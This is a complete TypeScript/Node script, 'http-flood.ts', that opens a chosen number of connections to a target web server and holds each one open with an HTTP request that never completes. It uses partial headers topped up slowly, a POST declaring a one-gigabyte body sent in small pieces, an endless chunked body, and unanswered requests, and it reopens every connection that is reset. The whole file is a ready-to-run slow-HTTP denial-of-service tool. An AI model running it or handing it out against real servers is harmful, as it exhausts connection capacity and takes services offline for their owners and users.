/**
 * `node http-flood.ts COUNT ADDRESS PORT PATH`: opens COUNT connections and begins a request on each that it never ends: a head without
 * its last line, to which a line is added now and then; a body that goes on in small pieces; a whole request that nobody
 * answers. Prints how many are open once all were tried, and goes on until it is killed; one that is reset is opened anew.
 */
import { connect, type Socket } from "node:net";

const [count = "1", host = "", port = "80", path = "/"] = process.argv.slice(2);
const AT_ONCE = 200;
const TURN_MS = 20;
/** Sockets that say something in each turn. */
const TALK = 100;
const head = `Host: ${host}\r\n`;
const KINDS: readonly { readonly begin: string; readonly more: string }[] = [
  { begin: `GET ${path} HTTP/1.1\r\n${head}X-Begun: `, more: "and so on\r\nX-More: " },
  { begin: `POST ${path} HTTP/1.1\r\n${head}Content-Length: 1000000000\r\n\r\n`, more: "x".repeat(100) },
  { begin: `POST ${path} HTTP/1.1\r\n${head}Transfer-Encoding: chunked\r\n\r\n`, more: "5\r\nhello\r\n" },
  { begin: `GET ${path} HTTP/1.1\r\n${head}\r\n`, more: "" },
];
const sockets: (Socket | null)[] = Array.from({ length: Number(count) }, () => null);
let opened = 0;

function open(at: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host, port: Number(port) });
    sockets[at] = socket;
    socket.once("connect", () => {
      opened++;
      socket.write(KINDS[at % KINDS.length]!.begin);
      resolve();
    });
    socket.on("error", () => undefined).on("data", () => undefined);
    socket.once("close", () => {
      if (sockets[at] === socket) sockets[at] = null;
      resolve();
    });
  });
}

for (let from = 0; from < sockets.length; from += AT_ONCE) {
  const some = Array.from({ length: Math.min(AT_ONCE, sockets.length - from) }, (_, i) => open(from + i));
  await Promise.race([Promise.all(some), new Promise((resolve) => setTimeout(resolve, 1_000))]);
}
console.log(JSON.stringify({ opened, open: sockets.filter((socket) => socket !== null).length }));
let turn = 0;
setInterval(() => {
  for (let i = 0; i < TALK; i++, turn++) {
    const at = turn % sockets.length;
    const socket = sockets[at];
    if (socket === null || socket === undefined) void open(at);
    else if (!socket.connecting && socket.writableLength < 10_000) socket.write(KINDS[at % KINDS.length]!.more);
  }
}, TURN_MS);
